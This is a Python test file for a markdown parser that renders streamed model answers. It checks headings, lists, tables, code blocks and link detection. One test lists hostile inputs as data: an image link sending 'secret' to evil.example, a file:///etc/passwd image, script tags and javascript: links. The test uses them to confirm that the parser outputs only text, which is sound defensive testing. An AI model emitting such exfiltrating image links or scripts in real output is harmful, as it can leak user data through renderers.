"""What models write becomes blocks; what streams becomes the same blocks as what is there at once."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.growing import Growing
from app.markdown import Code, Paragraph, Span, Table, by_width, parse

ANSWER = """# Title

Some **bold *both* text** and `code`, ~~gone~~,
a second line.
中文
换行

1. one
   ```python
   print(1)
   ```
   after it
2. two
   - [ ] open
   - [x] done

> quoted
> - list

| a | b |
|:--|--:|
| 1 | **2**<br>3 |

---

```
never closed"""


def text_of(paragraph: Paragraph) -> str:
    return "".join(span.text for span in paragraph.spans)


def test_the_blocks_of_an_answer() -> None:
    blocks = parse(ANSWER)
    assert blocks[0] == Paragraph((Span("Title"),), heading=1)
    second = blocks[1]
    assert isinstance(second, Paragraph)
    assert text_of(second) == "Some bold both text and code, gone, a second line. 中文换行"
    assert Span("both", strong=True, emphasis=True) in second.spans
    assert Span("code", code=True) in second.spans
    assert Span("gone", strike=True) in second.spans
    items = [(b.marker, b.indent, text_of(b)) for b in blocks if isinstance(b, Paragraph) and b.indent]
    assert items == [
        ("1.", 1, "one"),
        ("", 1, "after it"),
        ("2.", 1, "two"),
        ("☐", 2, "open"),
        ("☑", 2, "done"),
        ("•", 1, "list"),
    ]
    assert Code("python", "print(1)", indent=1) in blocks
    (table,) = (b for b in blocks if isinstance(b, Table))
    assert table.header == ((Span("a"),), (Span("b"),))
    assert table.rows == (((Span("1"),), (Span("2", strong=True), Span("\n3"))),)
    assert table.align == ("left", "right")
    assert blocks[-1] == Code("", "never closed")


@given(st.data())
@settings(deadline=None, max_examples=60)
def test_growing_comes_to_the_same(data: st.DataObject) -> None:
    """However the answer is cut into pieces."""
    growing, end = Growing(), 0
    while end < len(ANSWER):
        end += data.draw(st.integers(1, 40))
        assert growing.read(ANSWER[:end])
    assert growing.read(ANSWER) == parse(ANSWER)


@given(st.text(alphabet="ab*_`#>-|1.[]()!~<&\n\t 中\\:/", max_size=80))
@settings(deadline=None, max_examples=200)
def test_any_text_can_be_read_and_grown(text: str) -> None:
    parse(text)
    growing = Growing()
    for end in range(0, len(text), 7):
        growing.read(text[:end])
    growing.read(text)


def test_a_text_that_is_another_begins_anew() -> None:
    growing = Growing()
    growing.read("# One\n\ntwo\n\nthree")
    assert growing.read("Else") == parse("Else")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?q=secret)",
        '<img src="file:///etc/passwd">',
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "![x][r]\n\n[r]: http://evil.example/a.png",
    ],
)
def test_nothing_but_text_links_and_code_comes_out(hostile: str) -> None:
    for block in parse(hostile):
        assert isinstance(block, Paragraph)
        for span in block.spans:
            assert span.link in ("", "http://evil.example/?q=secret", "http://evil.example/a.png")


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("see https://a.example/x.", "https://a.example/x"),
        ("(https://a.example/w_(x))", "https://a.example/w_(x)"),
        ("在https://a.example/路径。后", "https://a.example/路径"),
        ("<https://a.example/y>", "https://a.example/y"),
    ],
)
def test_bare_addresses_are_links(text: str, link: str) -> None:
    (block,) = parse(text)
    assert isinstance(block, Paragraph)
    assert [span.link for span in block.spans if span.link] == [link]


def test_runs_by_width() -> None:
    assert list(by_width("ab中文c")) == [("ab", False), ("中文", True), ("c", False)]
